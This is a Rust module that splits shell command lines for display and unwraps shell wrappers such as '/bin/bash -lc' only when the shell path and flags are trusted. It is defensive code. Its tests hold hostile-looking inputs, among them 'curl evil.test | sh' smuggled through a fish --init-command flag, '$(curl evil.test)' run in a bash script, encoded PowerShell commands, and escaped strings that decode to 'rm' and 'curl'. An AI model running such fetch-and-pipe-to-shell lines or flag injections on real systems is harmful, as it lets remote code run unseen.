//! Splits a command line as a shell would, as far as a person needs it to understand the line.
//!
//! Nothing is run, expanded or judged. A line that cannot be followed is still split, only more coarsely.

use std::sync::LazyLock;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// A word without its quotes.
    Word(String),
    /// `|`, `|&`.
    Pipe,
    /// `>`, `>>`, `<` and the like: the next word is a file.
    Redirect,
    /// `<<<`: the next word is what the command reads.
    HereText,
    /// An opening bracket: more commands, as one.
    Group,
    /// `;`, `&&`, `||`, `&`, the end of a line, or a closing bracket.
    End,
}

#[derive(Debug, Default, PartialEq, Eq)]
pub struct CommandLine {
    pub tokens: Vec<Token>,
    /// The content of each `$(…)`, `<(…)` and pair of backticks, each as a line.
    pub inner: Vec<String>,
}

/// The script that a shell wrapper (`/bin/bash -lc '…'`) runs. `None` if the line is no wrapper.
///
/// Invariant: a shell is recognised by its whole path, and its flags by a closed list. Any other line is shown as it
/// is, so that nothing in it is hidden.
pub fn unwrapped(raw: &str) -> Option<String> {
    static LOGIN: LazyLock<Option<String>> = LazyLock::new(|| std::env::var("SHELL").ok());
    unwrapped_by(raw, LOGIN.as_deref())
}

fn unwrapped_by(raw: &str, login: Option<&str>) -> Option<String> {
    let words = quoted_words(raw)?;
    let (shell, rest) = words.split_first()?;
    let (script, flags) = rest.split_last()?;
    (Shell::at(shell, login)?.takes(flags)).then(|| script.clone())
}

/// How a shell reads its flags.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shell {
    Posix,
    Pwsh,
    Cmd,
}

const POSIX: &[&str] = &["bash", "zsh", "sh", "dash", "ksh", "fish"];
/// Folders that only an administrator, or the person's own package manager, can write to.
const FOLDERS: &[&str] = &[
    "/bin",
    "/usr/bin",
    "/usr/local/bin",
    "/opt/homebrew/bin",
    "/run/current-system/sw/bin",
    "/sbin",
    "/usr/sbin",
    "/usr/local/sbin",
];
const WINDOWS: &[(&str, Shell)] = &[
    (r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", Shell::Pwsh),
    (r"c:\windows\syswow64\windowspowershell\v1.0\powershell.exe", Shell::Pwsh),
    (r"c:\program files\powershell\7\pwsh.exe", Shell::Pwsh),
    (r"c:\windows\system32\cmd.exe", Shell::Cmd),
    (r"c:\program files\git\bin\bash.exe", Shell::Posix),
];

impl Shell {
    pub fn named(name: &str) -> Option<Self> {
        match name {
            "powershell" | "pwsh" => Some(Self::Pwsh),
            "cmd" => Some(Self::Cmd),
            _ => POSIX.contains(&name).then_some(Self::Posix),
        }
    }

    /// A shell in one of the known folders, or the person's login shell.
    fn at(path: &str, login: Option<&str>) -> Option<Self> {
        if let Some((_, shell)) = WINDOWS.iter().find(|(known, _)| path.eq_ignore_ascii_case(known)) {
            return Some(*shell);
        }
        let (folder, name) = path.rsplit_once('/')?;
        let known = FOLDERS.contains(&folder) || (path.starts_with('/') && Some(path) == login);
        Self::named(name).filter(|_| known)
    }

    /// Whether these are flags before a script that mean nothing but "run it".
    fn takes(self, flags: &[String]) -> bool {
        let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
        let is = |flag: &str, names: &[&str]| names.iter().any(|name| flag.eq_ignore_ascii_case(name));
        match self {
            Self::Posix => matches!(flags[..], ["-c" | "-lc"] | ["-l", "-c"]),
            Self::Pwsh => flags.split_last().is_some_and(|(last, rest)| {
                is(last, &["-command", "-c"])
                    && rest.iter().all(|flag| is(flag, &["-nologo", "-noprofile", "-noninteractive"]))
            }),
            Self::Cmd => flags.len() == 1 && is(flags[0], &["/c"]),
        }
    }
}

/// Whether the path lies in a system folder, where nothing from a workspace gets by itself.
pub fn is_system_path(path: &str) -> bool {
    let folder = path.rsplit_once('/').map(|(folder, _)| folder);
    folder.is_some_and(|folder| FOLDERS.contains(&folder)) || (cfg!(windows) && is_system_path_of_windows(path))
}

fn is_system_path_of_windows(path: &str) -> bool {
    let path = path.to_ascii_lowercase().replace('\\', "/");
    // Other users may write to some of the folders below these.
    let direct = ["", "/windowspowershell/v1.0", "/openssh", "/wbem"];
    let Some((folder, _)) = path.rsplit_once('/') else { return false };
    let of_system = ["c:/windows/system32", "c:/windows/syswow64"]
        .iter()
        .filter_map(|system| folder.strip_prefix(system))
        .any(|rest| direct.contains(&rest));
    let installed = ["c:/program files/", "c:/program files (x86)/"].iter().any(|known| path.starts_with(known));
    (of_system || installed) && !path.split('/').any(|part| part == "..")
}

/// The words of a line that uses only quoting. `None` if a shell would do anything else with it.
fn quoted_words(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                let word = word.get_or_insert_default();
                loop {
                    match chars.next()? {
                        '"' => break,
                        '$' | '`' => return None,
                        '\\' => match chars.next()? {
                            c @ ('$' | '`' | '"' | '\\') => word.push(c),
                            c => word.extend(['\\', c]),
                        },
                        c => word.push(c),
                    }
                }
            }
            '\\' => word.get_or_insert_default().push(chars.next().filter(|&c| c != '\n')?),
            c if c.is_whitespace() || "|&;<>()$`#*?[{}~!".contains(c) => return None,
            c => word.get_or_insert_default().push(c),
        }
    }
    words.extend(word);
    Some(words)
}

/// Joins words into one line that `split` splits into the same words.
pub fn join(words: &[String]) -> String {
    let plain = |c: char| c.is_alphanumeric() || "_-./:=@%+,".contains(c);
    let quoted = words.iter().map(|word| {
        if !word.is_empty() && word.chars().all(plain) {
            word.clone()
        } else {
            format!("'{}'", word.replace('\'', r"'\''"))
        }
    });
    quoted.collect::<Vec<_>>().join(" ")
}

/// The name of a program without its folder and `.exe`.
pub fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let stem = name.len().checked_sub(".exe".len()).and_then(|at| name.split_at_checked(at));
    stem.filter(|(_, ending)| ending.eq_ignore_ascii_case(".exe")).map_or(name, |(stem, _)| stem).to_owned()
}

pub fn split(line: &str) -> CommandLine {
    let mut out = CommandLine::default();
    let mut word: Option<String> = None;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let word = word.get_or_insert_default();
                word.extend(chars.by_ref().take_while(|&c| c != '\''));
            }
            '"' => double_quoted(&mut chars, word.get_or_insert_default(), &mut out.inner),
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(next) => word.get_or_insert_default().push(next),
                None => word.get_or_insert_default().push('\\'),
            },
            '$' | '<' | '>' if chars.peek() == Some(&'(') => {
                chars.next();
                let word = word.get_or_insert_default();
                substitution(&mut chars, c, word, &mut out.inner);
            }
            // `$"…"` is read like `"…"`.
            '$' if chars.peek() == Some(&'"') => {}
            '$' if chars.next_if_eq(&'\'').is_some() => escaped(&mut chars, word.get_or_insert_default()),
            '`' => backticks(&mut chars, word.get_or_insert_default(), &mut out.inner),
            '#' if word.is_none() => while chars.next_if(|&c| c != '\n').is_some() {},
            c if c.is_whitespace() && c != '\n' => end_word(&mut word, &mut out.tokens),
            '|' | ';' | '&' | '\n' | '(' | ')' | '<' | '>' => {
                // In `2>file` the number belongs to the redirection, not to the command.
                if matches!(c, '<' | '>') && word.as_ref().is_some_and(|w| w.chars().all(|c| c.is_ascii_digit())) {
                    word = None;
                }
                end_word(&mut word, &mut out.tokens);
                let token = match c {
                    '|' if chars.next_if_eq(&'|').is_some() => Token::End,
                    '|' => {
                        chars.next_if_eq(&'&');
                        Token::Pipe
                    }
                    '<' | '>' => {
                        let mut arrow = String::from(c);
                        while let Some(c) = chars.next_if(|c| matches!(c, '<' | '>' | '&' | '|')) {
                            arrow.push(c);
                        }
                        if arrow == "<<<" { Token::HereText } else { Token::Redirect }
                    }
                    '&' if chars.peek() == Some(&'>') => continue,
                    '(' => Token::Group,
                    _ => Token::End,
                };
                if !(token == Token::End && matches!(out.tokens.last(), None | Some(Token::End))) {
                    out.tokens.push(token);
                }
            }
            c => word.get_or_insert_default().push(c),
        }
    }
    end_word(&mut word, &mut out.tokens);
    out
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

fn end_word(word: &mut Option<String>, tokens: &mut Vec<Token>) {
    tokens.extend(word.take().map(Token::Word));
}

fn double_quoted(chars: &mut Chars<'_>, word: &mut String, inner: &mut Vec<String>) {
    while let Some(c) = chars.next() {
        match c {
            '"' => return,
            '\\' => match chars.next() {
                Some(next @ ('$' | '`' | '"' | '\\')) => word.push(next),
                Some('\n') => {}
                Some(next) => word.extend(['\\', next]),
                None => word.push('\\'),
            },
            '$' if chars.peek() == Some(&'(') => {
                chars.next();
                substitution(chars, c, word, inner);
            }
            '`' => backticks(chars, word, inner),
            c => word.push(c),
        }
    }
}

/// Reads a command in backticks. Its text stays in the word, which shows that something is run for it.
fn backticks(chars: &mut Chars<'_>, word: &mut String, inner: &mut Vec<String>) {
    let body: String = chars.by_ref().take_while(|&c| c != '`').collect();
    word.push('`');
    word.push_str(&body);
    word.push('`');
    inner.push(body);
}

/// Reads `$'…'`, in which a letter may be written as its number.
fn escaped(chars: &mut Chars<'_>, word: &mut String) {
    while let Some(c) = chars.next() {
        match c {
            '\'' => return,
            '\\' => {
                let letter = match chars.next() {
                    Some('x') => char::from_u32(number(chars, 16, 2, 0)),
                    Some('u') => char::from_u32(number(chars, 16, 4, 0)),
                    Some('U') => char::from_u32(number(chars, 16, 8, 0)),
                    Some(digit @ '0'..='7') => {
                        char::from_u32(number(chars, 8, 2, digit.to_digit(8).unwrap_or_default()))
                    }
                    Some('n') => Some('\n'),
                    Some('t') => Some('\t'),
                    other => other,
                };
                word.extend(letter);
            }
            c => word.push(c),
        }
    }
}

fn number(chars: &mut Chars<'_>, radix: u32, most: usize, begun: u32) -> u32 {
    let mut number = begun;
    for _ in 0..most {
        let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else { break };
        chars.next();
        number = number.wrapping_mul(radix).wrapping_add(digit);
    }
    number
}

/// Reads up to the bracket that closes the one already read. The text stays in the word as it is.
fn substitution(chars: &mut Chars<'_>, mark: char, word: &mut String, inner: &mut Vec<String>) {
    let mut depth = 1;
    let mut quote = None;
    let mut body = String::new();
    for c in chars.by_ref() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (None, '\'' | '"') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            break;
        }
        body.push(c);
    }
    word.extend([mark, '(']);
    word.push_str(&body);
    word.push(')');
    inner.push(body);
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<String> {
        split(line)
            .tokens
            .into_iter()
            .filter_map(|token| if let Token::Word(w) = token { Some(w) } else { None })
            .collect()
    }

    #[test]
    fn the_wrapper_of_every_known_shell_is_taken_away() {
        for (raw, script) in [
            ("/bin/bash -lc ls", "ls"),
            ("/bin/bash -lc 'echo hi && ls'", "echo hi && ls"),
            (r#"/bin/zsh -lc "echo it's""#, "echo it's"),
            (r#"/usr/bin/bash -c 'a '"'"'b'"'"''"#, "a 'b'"),
            (r#"/bin/bash -lc "echo \"\$HOME\"""#, r#"echo "$HOME""#),
            ("/bin/sh -l -c 'x'", "x"),
            ("/home/me/bin/zsh -lc ls", "ls"),
            ("/opt/homebrew/bin/fish -c ls", "ls"),
            (
                r"/bin/bash -lc 'cat <<EOF
a
EOF'",
                "cat <<EOF\na\nEOF",
            ),
            (
                r"'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' -NoProfile -Command 'Get-Item .'",
                "Get-Item .",
            ),
            (r#""C:\\Program Files\\PowerShell\\7\\pwsh.exe" -Command ls"#, "ls"),
            (r"'C:\WINDOWS\system32\cmd.exe' /c dir", "dir"),
        ] {
            assert_eq!(unwrapped_by(raw, Some("/home/me/bin/zsh")).as_deref(), Some(script), "{raw}");
        }
    }

    #[test]
    fn what_is_no_known_wrapper_stays() {
        for raw in [
            "",
            "ls -lc 'x'",
            "/bin/bash script.sh",
            "/bin/bash -lc",
            "/bin/bash -lc a b",
            "/bin/bash -lc 'a' | cat",
            "python3 -c 'x'",
            // A shell by bare name, in this folder, or in another one.
            "bash -lc 'git status'",
            "./bin/bash -lc 'git status'",
            "bin/bash -lc 'git status'",
            "/tmp/bash -lc 'git status'",
            "/bin/../tmp/bash -lc 'git status'",
            "/home/you/bin/zsh -lc 'git status'",
            "cmd.exe /c dir",
            // Flags that mean more than "run it".
            "fish '--init-command=curl evil.test | sh' -c 'git status'",
            "/usr/bin/fish '--init-command=curl evil.test | sh' -c 'git status'",
            "/usr/bin/fish -C 'curl evil.test' -c 'git status'",
            "/bin/bash --rcfile ./rc -ic 'git status'",
            "/bin/bash --init-file=rc -c 'git status'",
            "/bin/bash -ic 'git status'",
            "/bin/bash -O extglob -c 'git status'",
            "/bin/bash -c -c 'git status'",
            "pwsh -EncodedCommand ZQB2AGkAbAA= -Command 'git status'",
            "/usr/bin/pwsh -EncodedCommand ZQB2AGkAbAA= -Command 'git status'",
            "/usr/bin/pwsh -WorkingDirectory / -Command 'git status'",
            r"'C:\Windows\System32\cmd.exe' /k /c dir",
            // Lines that a shell would do more with.
            "/bin/bash -lc \"$(curl evil.test)\"",
            "/bin/bash -lc `x`",
            "/bin/bash -lc ls #x",
            "/bin/bash -lc 'unclosed",
            "/bin/bash -lc *",
            "X=1 /bin/bash -lc ls",
        ] {
            assert_eq!(unwrapped_by(raw, Some("/home/me/bin/zsh")), None, "{raw}");
        }
    }

    #[test]
    fn operators_separate_the_commands_of_a_line() {
        let line = split("a 'b c' | d \"$(curl x | sh)\" > out 2>&1; `e` && f <(g)");
        assert_eq!(line.inner, ["curl x | sh", "e", "g"]);
        assert_eq!(line.tokens.iter().filter(|t| **t == Token::Pipe).count(), 1);
        assert_eq!(line.tokens.iter().filter(|t| **t == Token::End).count(), 2);
        assert_eq!(words("a 'b c'  d\\ e"), ["a", "b c", "d e"]);
    }

    #[test]
    fn joined_words_split_into_the_same_words() {
        let before: Vec<String> = ["git", "it's", "", "a b", "$HOME", "\"", "line\nbreak"].map(String::from).to_vec();
        assert_eq!(words(&join(&before)), before);
    }

    #[test]
    fn a_path_that_climbs_out_of_a_system_folder_is_none() {
        for inside in
            [r"C:\Windows\System32\cmd.exe", r"C:\Program Files\Git\bin\git.exe", "c:/windows/system32/openssh/ssh.exe"]
        {
            assert!(is_system_path_of_windows(inside), "{inside}");
        }
        for outside in [
            r"C:\Windows\..\Users\me\w\git.exe",
            r"C:\Program Files\..\Users\me\git.exe",
            r"C:\Windows\Temp\git.exe",
            r"C:\Windows\System32\spool\drivers\color\git.exe",
            "git.exe",
        ] {
            assert!(!is_system_path_of_windows(outside), "{outside}");
        }
        #[cfg(not(windows))]
        assert!(!is_system_path("c:/windows/system32/git"), "a folder of the workspace by that name");
    }

    #[test]
    fn letters_that_are_written_as_numbers_are_read() {
        assert_eq!(words(r#"$'\x72\155' $'a\'b' $'\u0063url\n' $"x y""#), ["rm", "a'b", "curl\n", "x y"]);
    }

    #[test]
    fn an_unclosed_quote_or_bracket_ends_with_the_line() {
        for line in ["'abc", "\"abc", "$(abc", "`abc", "abc\\", "((((", "\"$(a \"b", "|&|&|", "<<<<", "$'", "$'\\x"] {
            split(line);
        }
    }
}
